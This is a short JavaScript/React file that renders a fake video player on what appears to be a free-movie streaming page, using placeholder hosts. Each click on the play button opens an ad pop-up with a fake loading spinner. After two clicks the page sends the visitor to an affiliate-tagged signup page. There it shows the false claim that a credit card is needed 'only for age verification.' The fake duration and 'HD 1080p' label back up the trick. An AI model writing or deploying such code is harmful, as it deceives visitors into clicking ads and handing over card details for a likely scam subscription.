var React = window.React, h = React.createElement;

function Player(props) {
  var s = React.useState(0), step = s[0], setStep = s[1];
  var b = React.useState(false), busy = b[0], setBusy = b[1];

  React.useEffect(function () {
    if (!busy) return;
    var t = setTimeout(function () { setBusy(false); setStep(step + 1); }, 2600);
    return function () { clearTimeout(t); };
  }, [busy]);

  function go() {
    if (step === 0) {
      window.open(props.offers[0] + '&title=' + encodeURIComponent(props.title), '_blank');
      setBusy(true);
    } else if (step === 1) {
      window.open(props.offers[1], '_blank');
      setBusy(true);
    } else {
      window.location.href = props.signup + '?movie=' + encodeURIComponent(props.title) + '&aff=' + props.aff;
    }
  }

  return h('div', { className: 'jw-fake', onClick: go },
    h('img', { src: props.poster, className: 'jw-poster' }),
    busy ? h('div', { className: 'spin' }) : h('div', { className: 'jw-play' }, '►'),
    h('div', { className: 'jw-bar' }, h('span', null, '00:00 / 1:52:07'), h('span', { className: 'hd' }, 'HD 1080p')),
    step > 1 && h('div', { className: 'jw-msg' }, 'Create a FREE account to continue watching. Credit card is only for age verification.')
  );
}

ReactDOM.render(h(Player, {
  title: document.title.replace(/watch|online|free/gi, '').trim(),
  poster: '/img/frame.jpg',
  aff: '33817',
  signup: 'https://stream-pass.test/register',
  offers: ['https://go.pop-wave.test/i?z=91', 'https://go.pop-wave.test/i?z=92'],
}), document.getElementById('player'));
